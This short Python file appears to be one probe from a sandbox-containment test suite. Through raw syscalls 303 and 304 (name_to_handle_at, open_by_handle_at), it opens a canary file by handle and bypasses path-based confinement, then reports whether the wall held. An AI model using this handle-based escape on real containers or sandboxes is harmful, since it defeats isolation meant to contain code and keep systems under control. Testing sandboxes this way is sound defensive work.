# attack: take a handle of a file, which needs no descriptor, and open it past its path
# class: files
# wall: fdless

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack(frame, frame_index, config):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 64, 0), 80)
    libc.syscall(303, -100, config["canary"].encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    opened = libc.syscall(304, -100, handle, 0)
    return "outside: opened" if opened >= 0 else f"held: errno {ctypes.get_errno()}"
